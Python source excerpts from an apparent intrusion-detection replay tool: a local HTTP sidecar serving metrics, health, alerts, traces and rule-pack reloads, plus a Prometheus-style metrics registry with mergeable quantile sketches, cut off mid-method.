            self._thread.join(timeout=2.0)
        self._server = None
        self._thread = None

    def __enter__(self) -> "ObsServer":
        return self.start()

    def __exit__(self, exc_type, exc, tb) -> None:
        self.stop()
