"""Live health/metrics sidecar: ``/metrics``, ``/healthz``, ``/alerts``,
``/metrics/history``, plus ``POST /rules/reload`` for rule-pack hot swap.

A stdlib ``http.server`` thread that exposes the running engine (or
cluster) while a replay/scenario is in flight — the operational
counterpart of the post-run ``--metrics-out`` snapshot.  No third-party
dependencies: Prometheus scrapes the text exposition, humans curl the
JSON endpoints, ``repro top`` polls ``/healthz`` + ``/metrics/history``.

The :class:`StatusSource` indirection exists because the interesting
objects appear at different times: the CLI binds the global metrics
registry before the run starts (metrics live mid-run), the engine as
soon as the harness returns it, the cluster before ``process_trace``.
Every handler reads whatever is bound *now*, so early probes get an
honest ``{"status": "starting"}`` rather than a connection error.

The server owns a background sampler thread that records one
:class:`~repro.obs.history.MetricsHistory` snapshot per
``history_interval`` seconds, so the history fills itself for as long
as the sidecar is up — no cooperation from the replay loop required.
"""

from __future__ import annotations

import json
import threading
import time as _time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs

from repro.obs.history import DEFAULT_INTERVAL, MetricsHistory
from repro.obs.registry import DEFAULT_QUANTILES, MetricsRegistry
from repro.obs.tracing import sort_timeline

DEFAULT_ALERT_LIMIT = 50
DEFAULT_TRACE_LIMIT = 200


def _quantile_view(
    registry: MetricsRegistry | None, name: str, by: str | None = None
) -> dict | None:
    """Quantile read-out of one summary family, aggregated across label
    sets (``by=None``) or grouped by one label (e.g. ``by="stage"``).

    Aggregation merges sketch copies, so the numbers match what a
    cluster roll-up of the same children would report.  Returns None
    when the family is absent or empty — health views simply omit it.
    """
    if registry is None:
        return None
    metric = registry.get(name)
    if metric is None or metric.typename != "summary":
        return None
    if by is None:
        agg = metric._new_child()
        for child in metric._children.values():
            agg._merge(child)
        return _quantile_dict(agg, metric) if agg.count else None
    if by not in metric.labelnames:
        return None
    idx = metric.labelnames.index(by)
    groups: dict[str, Any] = {}
    for key, child in metric._children.items():
        agg = groups.get(key[idx])
        if agg is None:
            agg = groups[key[idx]] = metric._new_child()
        agg._merge(child)
    out = {
        group: _quantile_dict(agg, metric)
        for group, agg in sorted(groups.items())
        if agg.count
    }
    return out or None


def _quantile_dict(child: Any, metric: Any) -> dict[str, float]:
    view = {
        f"p{int(q * 100)}": child.quantile(q) for q in DEFAULT_QUANTILES
    }
    view["count"] = child.count
    view["mean"] = child.sum / child.count if child.count else 0.0
    return view


class StatusSource:
    """Settable references to whatever should be served right now."""

    def __init__(self) -> None:
        self.engine = None
        self.cluster = None
        self.registry: MetricsRegistry | None = None
        self.tracer = None
        self.history = MetricsHistory()
        self._requests: dict[str, int] = {}
        self._lock = threading.Lock()

    # -- binding (CLI / tests) -------------------------------------------------

    def set_engine(self, engine) -> None:
        self.engine = engine

    def set_cluster(self, cluster) -> None:
        self.cluster = cluster

    def set_registry(self, registry: MetricsRegistry | None) -> None:
        self.registry = registry

    def set_tracer(self, tracer) -> None:
        """Bind a standalone tracer (single-engine runs where the global
        observability tracer is not reachable via the engine)."""
        self.tracer = tracer

    def count_request(self, path: str) -> None:
        with self._lock:
            self._requests[path] = self._requests.get(path, 0) + 1

    # -- actions ---------------------------------------------------------------

    def reload_rules(self, path: str) -> dict[str, Any]:
        """Hot-swap the bound cluster's (or engine's) rule pack from a
        ``.rules`` file — the body of ``POST /rules/reload``.

        Raises ``LookupError`` when nothing reloadable is bound yet and
        lets pack/cluster errors (:class:`~repro.rulespec.RulePackError`,
        ``ClusterError``) propagate; the handler maps both to 409 so a
        rejected reload is distinguishable from a malformed request.
        """
        cluster = self.cluster
        engine = self.engine
        if cluster is not None:
            pack = cluster.reload_rulepack(path)
            return {
                "status": "ok",
                "target": "cluster",
                "workers": cluster.config.workers,
                "rulepack": pack.info(),
                "reloads": cluster.cluster_stats.rulepack_reloads,
            }
        if engine is not None:
            from repro.rulespec import load_pack

            pack = load_pack(path)
            engine.load_rulepack(pack)
            return {
                "status": "ok",
                "target": "engine",
                "rulepack": pack.info(),
                "reloads": engine.rulepack_reloads,
            }
        raise LookupError("no engine or cluster bound yet; nothing to reload")

    # -- views -----------------------------------------------------------------

    def metrics_text(self) -> str:
        """Merged Prometheus exposition of every bound metrics source.

        Always non-empty: the server's own request counter is appended,
        so a scrape during startup still yields a valid exposition.
        """
        out = MetricsRegistry()
        if self.registry is not None:
            out.merge(self.registry)
        engine = self.engine
        if engine is not None:
            registry = engine.metrics_registry()
            if registry is not None and registry is not self.registry:
                out.merge(registry)
        cluster = self.cluster
        if cluster is not None:
            out.merge(cluster.live_registry())
        else:
            # Cluster registries carry their own build info; a pure
            # engine (or starting) scrape gets it stamped here.
            from repro.obs import set_build_info

            engine_pack = getattr(engine, "rulepack", None) if engine else None
            set_build_info(
                out,
                backend="engine",
                pack=engine_pack.label if engine_pack is not None else None,
            )
        requests = out.counter(
            "scidive_http_requests_total",
            "Requests served by the observability sidecar",
            labelnames=("path",),
        )
        with self._lock:
            for path, count in self._requests.items():
                requests.labels(path=path).inc(count)
        return out.render_prometheus()

    def health(self) -> dict[str, Any]:
        payload: dict[str, Any] = {"status": "ok"}
        engine = self.engine
        cluster = self.cluster
        if engine is None and cluster is None:
            payload["status"] = "starting"
        if engine is not None:
            stats = engine.stats
            engine_view: dict[str, Any] = {
                "name": engine.name,
                "frames": stats.frames,
                "footprints": stats.footprints,
                "events": stats.events,
                "alerts": stats.alerts,
                "live_trails": engine.trails.trail_count,
                "live_sessions": engine.trails.session_count,
                "expired_trails": engine.expired_trails,
            }
            recorder = getattr(engine, "forensics", None)
            if recorder is not None:
                engine_view["forensics_sessions"] = recorder.session_count
                engine_view["forensics_records"] = recorder.record_count
                age = recorder.last_frame_age()
                if age is not None:
                    engine_view["last_frame_age_seconds"] = round(age, 3)
            firewall = getattr(engine, "firewall", None)
            if firewall is not None:
                engine_view["firewall"] = firewall.as_dict()
            rulepack = getattr(engine, "rulepack", None)
            if rulepack is not None:
                engine_view["rulepack"] = rulepack.info()
            reloads = getattr(engine, "rulepack_reloads", 0)
            if reloads:
                engine_view["rulepack_reloads"] = reloads
            budget = getattr(engine, "latency_budget", None)
            if budget is not None:
                engine_view["latency_budget"] = budget.as_dict()
            overload = getattr(engine, "overload", None)
            if overload is not None:
                engine_view["overload"] = overload.as_dict()
            obs = getattr(engine, "observability", None)
            tracer = getattr(obs, "tracer", None) if obs is not None else None
            if tracer is not None:
                engine_view["spans"] = len(tracer.spans)
                engine_view["spans_dropped"] = tracer.dropped
            registry = engine.metrics_registry()
            frame_q = _quantile_view(registry, "scidive_frame_latency_seconds")
            if frame_q is not None:
                engine_view["frame_latency"] = frame_q
            stage_q = _quantile_view(
                registry, "scidive_stage_latency_seconds", by="stage"
            )
            if stage_q is not None:
                engine_view["stage_latency"] = stage_q
            ruleset = getattr(engine, "ruleset", None)
            if ruleset is not None:
                top = [
                    entry for entry in ruleset.top_cost(5)
                    if entry["cost_seconds"] > 0.0
                ]
                if top:
                    engine_view["top_rules"] = top
            payload["engine"] = engine_view
        if cluster is not None:
            cluster_view = cluster.health()
            registry = cluster.live_registry()
            frame_q = _quantile_view(registry, "scidive_frame_latency_seconds")
            if frame_q is not None:
                cluster_view["frame_latency"] = frame_q
            stage_q = _quantile_view(
                registry, "scidive_stage_latency_seconds", by="stage"
            )
            if stage_q is not None:
                cluster_view["stage_latency"] = stage_q
            payload["cluster"] = cluster_view
        return payload

    def sample_history(self, now: float | None = None) -> dict:
        """Record one history snapshot from whatever is bound right now."""
        if now is None:
            now = _time.time()
        totals: dict[str, float] = {"frames": 0, "events": 0, "alerts": 0, "shed": 0}
        extra: dict[str, Any] = {}
        engine = self.engine
        if engine is not None:
            stats = engine.stats
            totals["frames"] += stats.frames
            totals["events"] += stats.events
            totals["alerts"] += stats.alerts
            budget = getattr(engine, "latency_budget", None)
            if budget is not None:
                extra["burn_rate"] = round(budget.burn_rate, 4)
                extra["overloaded"] = budget.overloaded
            frame_q = _quantile_view(
                engine.metrics_registry(), "scidive_frame_latency_seconds"
            )
            if frame_q is not None:
                extra["frame_latency"] = frame_q
        cluster = self.cluster
        if cluster is not None:
            health = cluster.health()
            totals["frames"] += health.get("frames_in", 0)
            totals["shed"] += health.get("frames_dropped", 0)
            extra["queue_depths"] = health.get("queue_depths", [])
            extra["worker_restarts"] = health.get("worker_restarts", 0)
            overload = health.get("overload")
            if overload:
                extra["overload_state"] = overload.get("state")
            result = cluster.result
            if result is not None:
                totals["events"] += result.stats.events
                totals["alerts"] += result.stats.alerts
        return self.history.record(now, totals, extra)

    def alerts(self, limit: int = DEFAULT_ALERT_LIMIT) -> list[dict]:
        alerts: list = []
        if self.engine is not None:
            alerts = list(self.engine.alert_log.alerts)
        elif self.cluster is not None and self.cluster.result is not None:
            alerts = list(self.cluster.result.alerts)
        return [alert.to_dict() for alert in alerts[-limit:]]

    def trace(
        self,
        limit: int | None = DEFAULT_TRACE_LIMIT,
        trace_id: str | None = None,
    ) -> dict[str, Any]:
        """The ``/trace`` payload: span records from whatever is bound.

        Cluster first (the merged cross-process view), then the engine's
        own tracer, then a standalone bound tracer.  ``trace_id`` filters
        to one journey; ``limit`` keeps the newest records otherwise.
        """
        records: list[dict] = []
        dropped = 0
        cluster = self.cluster
        engine_tracer = None
        if self.engine is not None:
            obs = getattr(self.engine, "observability", None)
            engine_tracer = getattr(obs, "tracer", None) if obs else None
        if cluster is not None and getattr(cluster, "_tracer", None) is not None:
            records = cluster.trace_spans()
            dropped = (
                cluster.cluster_stats.spans_dropped or cluster._tracer.dropped
            )
        elif engine_tracer is not None:
            # list() snapshots: the replay thread may still be appending.
            records = sort_timeline(
                span.to_dict() for span in list(engine_tracer.spans)
            )
            dropped = engine_tracer.dropped
        elif self.tracer is not None:
            records = sort_timeline(
                span.to_dict() for span in list(self.tracer.spans)
            )
            dropped = self.tracer.dropped
        if trace_id:
            records = [r for r in records if r.get("trace") == trace_id]
        traces: dict[str, int] = {}
        for record in records:
            tid = record.get("trace")
            if tid:
                traces[tid] = traces.get(tid, 0) + 1
        if limit is not None and len(records) > limit:
            records = records[-limit:]
        return {
            "count": len(records),
            "dropped": dropped,
            "traces": traces,
            "spans": records,
        }


class _Handler(BaseHTTPRequestHandler):
    server: "_Server"

    def do_GET(self) -> None:  # noqa: N802 (http.server API)
        source = self.server.source
        raw_path, _, query = self.path.partition("?")
        path = raw_path.rstrip("/") or "/"
        source.count_request(path)
        try:
            if path == "/metrics":
                self._reply(source.metrics_text(),
                            "text/plain; version=0.0.4; charset=utf-8")
            elif path == "/healthz":
                self._reply_json(source.health())
            elif path == "/alerts":
                self._reply_json(source.alerts())
            elif path == "/metrics/history":
                self._reply_json(
                    source.history.as_dict(_query_int(query, "limit"))
                )
            elif path == "/trace":
                limit = _query_int(query, "limit")
                tid = parse_qs(query).get("trace", [None])[0]
                self._reply_json(source.trace(
                    limit=limit if limit is not None else DEFAULT_TRACE_LIMIT,
                    trace_id=tid,
                ))
            else:
                self._reply_json(
                    {"error": f"unknown path {path!r}",
                     "paths": ["/metrics", "/metrics/history",
                               "/healthz", "/alerts", "/trace"]},
                    status=404,
                )
        except Exception as exc:  # pragma: no cover - defensive
            self._reply_json({"status": "error", "error": str(exc)}, status=500)

    def do_POST(self) -> None:  # noqa: N802 (http.server API)
        source = self.server.source
        raw_path, _, _ = self.path.partition("?")
        path = raw_path.rstrip("/") or "/"
        source.count_request(path)
        if path != "/rules/reload":
            self._reply_json(
                {"error": f"unknown POST path {path!r}",
                 "paths": ["/rules/reload"]},
                status=404,
            )
            return
        try:
            length = int(self.headers.get("Content-Length", 0) or 0)
            body = self.rfile.read(length) if length else b""
            payload = json.loads(body or b"{}")
        except ValueError:
            self._reply_json(
                {"status": "error", "error": "body must be JSON"}, status=400
            )
            return
        pack_path = payload.get("path") if isinstance(payload, dict) else None
        if not isinstance(pack_path, str) or not pack_path:
            self._reply_json(
                {"status": "error",
                 "error": 'body must be {"path": "<.rules file>"}'},
                status=400,
            )
            return
        try:
            self._reply_json(source.reload_rules(pack_path))
        except Exception as exc:
            # A rejected pack (lint errors, cluster abort, no engine
            # bound yet) is a state conflict, not a malformed request.
            self._reply_json({"status": "error", "error": str(exc)}, status=409)

    def _reply(self, body: str, content_type: str, status: int = 200) -> None:
        data = body.encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _reply_json(self, payload: dict | list, status: int = 200) -> None:
        self._reply(json.dumps(payload, indent=2, sort_keys=True) + "\n",
                    "application/json", status)

    def log_message(self, format: str, *args) -> None:  # noqa: A002
        pass  # the sidecar must not spam the CLI's stdout


def _query_int(query: str, key: str) -> int | None:
    values = parse_qs(query).get(key)
    if not values:
        return None
    try:
        return int(values[0])
    except ValueError:
        return None


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    # Replays finish in seconds; a lingering TIME_WAIT socket from the
    # previous run must not fail the next one's bind.
    allow_reuse_address = True

    def __init__(self, address, source: StatusSource) -> None:
        super().__init__(address, _Handler)
        self.source = source


class ObsServer:
    """The sidecar: ``ObsServer(port=8080).start()`` then curl away.

    ``port=0`` binds an ephemeral port (tests); the bound port is
    available as ``.port`` after :meth:`start`.
    """

    def __init__(
        self,
        port: int = 0,
        host: str = "127.0.0.1",
        source: StatusSource | None = None,
        history_interval: float = DEFAULT_INTERVAL,
    ) -> None:
        self.host = host
        self.requested_port = port
        self.source = source if source is not None else StatusSource()
        # Seconds between automatic history snapshots; 0 disables the
        # sampler (tests that drive sample_history() by hand).
        self.history_interval = history_interval
        self._server: _Server | None = None
        self._thread: threading.Thread | None = None
        self._sampler: threading.Thread | None = None
        self._sampler_stop = threading.Event()

    @property
    def port(self) -> int:
        if self._server is None:
            return self.requested_port
        return self._server.server_address[1]

    def url(self, path: str = "/") -> str:
        return f"http://{self.host}:{self.port}{path}"

    def start(self) -> "ObsServer":
        if self._server is not None:
            return self
        self._server = _Server((self.host, self.requested_port), self.source)
        self._thread = threading.Thread(
            target=self._server.serve_forever,
            name="scidive-obs-server",
            daemon=True,
        )
        self._thread.start()
        if self.history_interval > 0:
            self._sampler_stop.clear()
            self._sampler = threading.Thread(
                target=self._sample_loop,
                name="scidive-obs-history",
                daemon=True,
            )
            self._sampler.start()
        return self

    def _sample_loop(self) -> None:
        while not self._sampler_stop.wait(self.history_interval):
            try:
                self.source.sample_history()
            except Exception:  # pragma: no cover - defensive
                pass  # the sampler must never take the sidecar down

    def stop(self) -> None:
        if self._server is None:
            return
        self._sampler_stop.set()
        if self._sampler is not None:
            self._sampler.join(timeout=2.0)
            self._sampler = None
        self._server.shutdown()
        self._server.server_close()
        if self._thread is not None:
            self._thread.join(timeout=2.0)
        self._server = None
        self._thread = None

    def __enter__(self) -> "ObsServer":
        return self.start()

    def __exit__(self, exc_type, exc, tb) -> None:
        self.stop()
