"""Metrics registry: Counters, Gauges, Histograms with label support.

The operational counterpart of :mod:`repro.core.metrics` (which scores
detection *quality*): this module counts what the engine *does* —
frames, footprints, events, alerts, per-stage latencies — so capacity
and hot-path questions ("where do frames spend time?", "how much state
has accumulated?") have answers.  Dependency-free by design: metrics
render to the Prometheus text exposition format and to plain JSON, so
any scraper or script can consume them.

Usage::

    registry = MetricsRegistry()
    frames = registry.counter("scidive_frames_total", "Frames ingested")
    frames.inc()
    by_proto = registry.counter(
        "scidive_footprints_total", "Footprints distilled", labelnames=("protocol",)
    )
    by_proto.labels(protocol="sip").inc()
    print(registry.render_prometheus())
"""

from __future__ import annotations

import json
import math
import re
from bisect import bisect_left
from math import ceil as _ceil, log as _log
from typing import Any, Iterable

_NAME_RE = re.compile(r"^[a-zA-Z_:][a-zA-Z0-9_:]*$")
_LABEL_RE = re.compile(r"^[a-zA-Z_][a-zA-Z0-9_]*$")

# Latency-oriented default buckets: 1 µs .. 1 s (seconds).
DEFAULT_BUCKETS = (
    1e-6, 2.5e-6, 5e-6,
    1e-5, 2.5e-5, 5e-5,
    1e-4, 2.5e-4, 5e-4,
    1e-3, 2.5e-3, 5e-3,
    1e-2, 2.5e-2, 5e-2,
    1e-1, 2.5e-1, 5e-1,
    1.0,
)


class MetricError(ValueError):
    """Bad metric name, label, or type collision."""


def _check_name(name: str) -> str:
    if not _NAME_RE.match(name):
        raise MetricError(f"invalid metric name: {name!r}")
    return name


def _check_labelnames(labelnames: Iterable[str]) -> tuple[str, ...]:
    names = tuple(labelnames)
    for label in names:
        if not _LABEL_RE.match(label) or label.startswith("__"):
            raise MetricError(f"invalid label name: {label!r}")
    if len(set(names)) != len(names):
        raise MetricError(f"duplicate label names: {names}")
    return names


def _escape_label_value(value: str) -> str:
    return value.replace("\\", "\\\\").replace("\n", "\\n").replace('"', '\\"')


def _format_labels(labelnames: tuple[str, ...], labelvalues: tuple[str, ...],
                   extra: tuple[tuple[str, str], ...] = ()) -> str:
    pairs = list(zip(labelnames, labelvalues)) + list(extra)
    if not pairs:
        return ""
    inner = ",".join(f'{k}="{_escape_label_value(v)}"' for k, v in pairs)
    return "{" + inner + "}"


def _labels_repr(labels: dict) -> str:
    if not labels:
        return ""
    names = tuple(labels)
    return _format_labels(names, tuple(str(labels[n]) for n in names))


def _format_value(value: float) -> str:
    if value == float("inf"):
        return "+Inf"
    if value == float("-inf"):
        return "-Inf"
    if float(value).is_integer():
        return str(int(value))
    return repr(float(value))


class Metric:
    """Base: one named family of children (one child per label set)."""

    typename = "untyped"

    def __init__(self, name: str, help: str = "", labelnames: Iterable[str] = ()) -> None:
        self.name = _check_name(name)
        self.help = help
        self.labelnames = _check_labelnames(labelnames)
        self._children: dict[tuple[str, ...], Any] = {}
        if not self.labelnames:
            self._children[()] = self._new_child()

    # -- children -----------------------------------------------------------

    def _new_child(self):
        raise NotImplementedError

    def labels(self, **labelvalues: str):
        """Get (or create) the child for one concrete label combination."""
        if set(labelvalues) != set(self.labelnames):
            raise MetricError(
                f"{self.name}: expected labels {self.labelnames}, got {tuple(labelvalues)}"
            )
        key = tuple(str(labelvalues[name]) for name in self.labelnames)
        child = self._children.get(key)
        if child is None:
            child = self._new_child()
            self._children[key] = child
        return child

    def _default_child(self):
        if self.labelnames:
            raise MetricError(f"{self.name} has labels {self.labelnames}; use .labels()")
        return self._children[()]

    # -- rendering ------------------------------------------------------------

    def samples(self) -> list[tuple[str, tuple[tuple[str, str], ...], float]]:
        """Flat (suffix, labels, value) samples, for exporters."""
        out = []
        for key, child in self._children.items():
            base = tuple(zip(self.labelnames, key))
            for suffix, extra, value in child._samples():
                out.append((suffix, base + extra, value))
        return out

    def as_dict(self) -> dict[str, Any]:
        series = []
        for key, child in self._children.items():
            series.append({
                "labels": dict(zip(self.labelnames, key)),
                **child._as_dict(),
            })
        return {"name": self.name, "type": self.typename, "help": self.help,
                "series": series}

    # -- merging --------------------------------------------------------------

    def merge(self, other: "Metric") -> None:
        """Fold another family's children into this one, label set by
        label set (cluster aggregation).  Families must agree on type
        and label names; histogram bucket bounds must match too."""
        if type(other) is not type(self):
            raise MetricError(
                f"{self.name}: cannot merge {other.typename} into {self.typename}"
            )
        if other.labelnames != self.labelnames:
            raise MetricError(
                f"{self.name}: label mismatch {other.labelnames} vs {self.labelnames}"
            )
        for key, child in other._children.items():
            mine = self._children.get(key)
            if mine is None:
                mine = self._new_child()
                self._children[key] = mine
            try:
                mine._merge(child)
            except MetricError as exc:
                # Children don't know their own name; a bare "bucket
                # bounds differ" from a 4-worker roll-up is undebuggable.
                raise MetricError(
                    f"{self.name}"
                    f"{_format_labels(self.labelnames, key)}: {exc}"
                ) from None


class _CounterChild:
    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0.0

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise MetricError(f"counters only go up (got {amount})")
        self.value += amount

    def _samples(self):
        return [("", (), self.value)]

    def _as_dict(self):
        return {"value": self.value}

    def _merge(self, other: "_CounterChild") -> None:
        self.value += other.value

    def _merge_dict(self, data: dict) -> None:
        self.inc(float(data.get("value", 0.0)))


class Counter(Metric):
    """Monotonically increasing count."""

    typename = "counter"

    def _new_child(self) -> _CounterChild:
        return _CounterChild()

    def inc(self, amount: float = 1.0) -> None:
        self._default_child().inc(amount)

    @property
    def value(self) -> float:
        return self._default_child().value


class _GaugeChild:
    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0.0

    def set(self, value: float) -> None:
        self.value = float(value)

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount

    def _samples(self):
        return [("", (), self.value)]

    def _as_dict(self):
        return {"value": self.value}

    # Gauges merge by summation: worker gauges are sizes (live trails,
    # pending state), and the cluster-level answer is their total.
    def _merge(self, other: "_GaugeChild") -> None:
        self.value += other.value

    def _merge_dict(self, data: dict) -> None:
        self.value += float(data.get("value", 0.0))


class Gauge(Metric):
    """A value that can go up and down (sizes, in-flight counts)."""

    typename = "gauge"

    def _new_child(self) -> _GaugeChild:
        return _GaugeChild()

    def set(self, value: float) -> None:
        self._default_child().set(value)

    def inc(self, amount: float = 1.0) -> None:
        self._default_child().inc(amount)

    def dec(self, amount: float = 1.0) -> None:
        self._default_child().dec(amount)

    @property
    def value(self) -> float:
        return self._default_child().value


class _HistogramChild:
    __slots__ = ("buckets", "counts", "sum", "count")

    def __init__(self, buckets: tuple[float, ...]) -> None:
        self.buckets = buckets
        # One extra slot absorbs over-range observations, so the hot-path
        # observe never bounds-checks; counts are non-cumulative here and
        # rendered cumulative (the +Inf bucket is just ``count``).
        self.counts = [0] * (len(buckets) + 1)
        self.sum = 0.0
        self.count = 0

    def observe(self, value: float) -> None:
        self.sum += value
        self.count += 1
        self.counts[bisect_left(self.buckets, value)] += 1

    def _samples(self):
        out = []
        running = 0
        for bound, count in zip(self.buckets, self.counts):
            running += count
            out.append(("_bucket", (("le", _format_value(bound)),), float(running)))
        out.append(("_bucket", (("le", "+Inf"),), float(self.count)))
        out.append(("_sum", (), self.sum))
        out.append(("_count", (), float(self.count)))
        return out

    def _as_dict(self):
        return {
            "sum": self.sum,
            "count": self.count,
            "buckets": {_format_value(b): c for b, c in zip(self.buckets, self.counts)},
        }

    def _merge(self, other: "_HistogramChild") -> None:
        if other.buckets != self.buckets:
            raise MetricError(
                f"histogram bucket bounds differ: {other.buckets} vs {self.buckets}"
            )
        for i, count in enumerate(other.counts):
            self.counts[i] += count
        self.sum += other.sum
        self.count += other.count

    def _merge_dict(self, data: dict) -> None:
        observed = data.get("buckets", {})
        bounds = tuple(sorted(float(b) for b in observed))
        if bounds != self.buckets:
            raise MetricError(
                f"histogram bucket bounds differ: {bounds} vs {self.buckets}"
            )
        in_range = 0
        for i, bound in enumerate(self.buckets):
            add = int(observed[_format_value(bound)])
            in_range += add
            self.counts[i] += add
        count = int(data.get("count", 0))
        # as_dict omits the over-range slot; it is count minus the rest.
        self.counts[-1] += count - in_range
        self.sum += float(data.get("sum", 0.0))
        self.count += count

    @property
    def mean(self) -> float:
        return self.sum / self.count if self.count else 0.0


class Histogram(Metric):
    """Observation distribution with cumulative buckets (seconds by default)."""

    typename = "histogram"

    def __init__(
        self,
        name: str,
        help: str = "",
        labelnames: Iterable[str] = (),
        buckets: Iterable[float] = DEFAULT_BUCKETS,
    ) -> None:
        bounds = tuple(sorted(float(b) for b in buckets))
        if not bounds:
            raise MetricError("histograms need at least one bucket")
        if any(b != b or b == float("inf") for b in bounds):
            raise MetricError(f"bucket bounds must be finite: {bounds}")
        self.buckets = bounds
        super().__init__(name, help, labelnames)

    def _new_child(self) -> _HistogramChild:
        return _HistogramChild(self.buckets)

    def observe(self, value: float) -> None:
        self._default_child().observe(value)

    @property
    def count(self) -> int:
        return self._default_child().count

    @property
    def sum(self) -> float:
        return self._default_child().sum


# Relative-error target for Summary quantile sketches: an estimated
# quantile q̂ satisfies |q̂ - q| <= alpha * q for the true quantile q.
DEFAULT_SUMMARY_ALPHA = 0.01

# Quantiles rendered by default (Prometheus summary convention).
DEFAULT_QUANTILES = (0.5, 0.9, 0.99)

# Observations below this are "zero" for sketching purposes: the log
# bucketing cannot represent 0, and sub-nanosecond latencies are clock
# noise anyway.
_SUMMARY_MIN_VALUE = 1e-9

# Bucket-count ceiling per child.  With alpha=1% the full 1 ns .. 1000 s
# latency range needs ~1380 buckets; the cap only bites on pathological
# value ranges, collapsing the smallest buckets first (quantile error
# stays one-sided: low quantiles round up toward the collapse floor).
_SUMMARY_MAX_BUCKETS = 2048


class _SummaryChild:
    """One label-set's streaming quantile sketch.

    A DDSketch-style log-bucketed sketch: an observation ``v`` lands in
    integer bucket ``ceil(log_gamma(v))`` where ``gamma = (1 + alpha) /
    (1 - alpha)``, which guarantees every value in a bucket is within
    relative error ``alpha`` of the bucket's representative value
    ``2 * gamma^k / (gamma + 1)``.  Unlike the P² estimator (whose five
    markers drift with arrival order and cannot be combined), bucket
    counts merge by plain addition — commutative and associative, which
    is exactly what the cluster's N-way worker roll-up needs.
    """

    __slots__ = ("gamma", "_inv_log_gamma", "buckets", "zeros",
                 "sum", "count", "min", "max")

    def __init__(self, gamma: float) -> None:
        self.gamma = gamma
        self._inv_log_gamma = 1.0 / math.log(gamma)
        self.buckets: dict[int, int] = {}
        self.zeros = 0
        self.sum = 0.0
        self.count = 0
        self.min = math.inf
        self.max = -math.inf

    def observe(self, value: float) -> None:
        # Engine hot path: ~5 calls per frame.  Accepts ints too (the
        # += and comparisons coerce); the bucket-cap check only runs
        # when a *new* bucket appears, so steady state skips it.
        self.sum += value
        self.count += 1
        if value < self.min:
            self.min = value
        if value > self.max:
            self.max = value
        if value < _SUMMARY_MIN_VALUE:
            self.zeros += 1
            return
        key = _ceil(_log(value) * self._inv_log_gamma)
        buckets = self.buckets
        prev = buckets.get(key)
        if prev is None:
            buckets[key] = 1
            if len(buckets) > _SUMMARY_MAX_BUCKETS:
                self._collapse()
        else:
            buckets[key] = prev + 1

    def _collapse(self) -> None:
        """Fold the two smallest buckets together until under the cap."""
        keys = sorted(self.buckets)
        while len(keys) > _SUMMARY_MAX_BUCKETS:
            lowest = keys.pop(0)
            self.buckets[keys[0]] = (
                self.buckets.get(keys[0], 0) + self.buckets.pop(lowest)
            )

    def quantile(self, q: float) -> float:
        """Estimated q-quantile (0 <= q <= 1); 0.0 when empty."""
        if self.count == 0:
            return 0.0
        if not 0.0 <= q <= 1.0:
            raise MetricError(f"quantile must be in [0, 1]: {q}")
        # Rank among the sketched observations, 1-based.
        rank = max(1, math.ceil(q * self.count))
        if rank <= self.zeros:
            return 0.0
        rank -= self.zeros
        running = 0
        gamma = self.gamma
        for key in sorted(self.buckets):
            running += self.buckets[key]
            if running >= rank:
                estimate = 2.0 * gamma ** key / (gamma + 1.0)
                # Clamp to the observed range: the top bucket's
                # representative can exceed the true max by up to alpha.
                return min(max(estimate, self.min), self.max)
        return self.max  # pragma: no cover - rank <= count always lands

    @property
    def mean(self) -> float:
        return self.sum / self.count if self.count else 0.0

    def _samples(self):
        out = [
            (
                "",
                (("quantile", _format_value(q)),),
                self.quantile(q),
            )
            for q in DEFAULT_QUANTILES
        ]
        out.append(("_sum", (), self.sum))
        out.append(("_count", (), float(self.count)))
        return out

    def _as_dict(self):
        return {
            "sum": self.sum,
            "count": self.count,
            "zeros": self.zeros,
            "gamma": self.gamma,
            "min": self.min if self.count else None,
            "max": self.max if self.count else None,
            "buckets": {str(k): c for k, c in self.buckets.items()},
            "quantiles": {
                _format_value(q): self.quantile(q) for q in DEFAULT_QUANTILES
            },
        }

    def _merge(self, other: "_SummaryChild") -> None:
        if not math.isclose(other.gamma, self.gamma, rel_tol=1e-12):
            raise MetricError(
                f"summary sketch resolution differs: gamma {other.gamma} "
                f"vs {self.gamma}"
            )
        for key, count in other.buckets.items():
            self.buckets[key] = self.buckets.get(key, 0) + count
        if len(self.buckets) > _SUMMARY_MAX_BUCKETS:
            self._collapse()
        self.zeros += other.zeros
        self.sum += other.sum
        self.count += other.count
        self.min = min(self.min, other.min)
        self.max = max(self.max, other.max)

    def _merge_dict(self, data: dict) -> None:
        gamma = float(data.get("gamma", self.gamma))
        if not math.isclose(gamma, self.gamma, rel_tol=1e-12):
            raise MetricError(
                f"summary sketch resolution differs: gamma {gamma} "
                f"vs {self.gamma}"
            )
        for key, count in data.get("buckets", {}).items():
            key = int(key)
            self.buckets[key] = self.buckets.get(key, 0) + int(count)
        if len(self.buckets) > _SUMMARY_MAX_BUCKETS:
            self._collapse()
        self.zeros += int(data.get("zeros", 0))
        self.sum += float(data.get("sum", 0.0))
        self.count += int(data.get("count", 0))
        low, high = data.get("min"), data.get("max")
        if low is not None:
            self.min = min(self.min, float(low))
        if high is not None:
            self.max = max(self.max, float(high))


class Summary(Metric):
    """Streaming latency quantiles (p50/p90/p99) with mergeable sketches.

    ``alpha`` is the relative-error guarantee: an estimated quantile is
    within ``alpha`` (default 1%) of the true quantile's value.  Merging
    two summaries (cluster worker roll-up) sums their bucket counts, so
    the merged estimate is identical regardless of worker order or how
    observations were split across workers.
    """

    typename = "summary"

    def __init__(
        self,
        name: str,
        help: str = "",
        labelnames: Iterable[str] = (),
        alpha: float = DEFAULT_SUMMARY_ALPHA,
    ) -> None:
        if not 0.0 < alpha < 1.0:
            raise MetricError(f"summary alpha must be in (0, 1): {alpha}")
        self.alpha = alpha
        self.gamma = (1.0 + alpha) / (1.0 - alpha)
        super().__init__(name, help, labelnames)

    def _new_child(self) -> _SummaryChild:
        return _SummaryChild(self.gamma)

    def observe(self, value: float) -> None:
        self._default_child().observe(value)

    def quantile(self, q: float) -> float:
